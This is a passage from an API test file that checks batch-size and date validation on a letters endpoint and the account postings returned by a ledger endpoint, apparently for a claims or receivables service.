    expect(await (await post('/letters/due', { claims: [many], date: '2026-02-19' })).json()).toMatchObject({ status: 413, code: 'BATCH_TOO_LARGE', pointer: '/claims' });
    const late = await post('/letters/due', { claims, date: '2099-01-01' });
    expect(await late.json()).toMatchObject({ status: 422, code: 'RULES_NOT_REVIEWED' });
  });

  it('POST /ledger gives the postings with the accounts given', async () => {
    const r = await post('/ledger', { claim, asOf: '2026-02-19', accounts: { receivable: '1510' } });
    expect(r.status).toBe(200);
    const l = await r.json();
    expect(l.postings[0]).toMatchObject({ debit: '1510', credit: '3000', amount: '2000.00' });
    expect(l.balances['1510']).toBe(l.outstanding);
  });
});
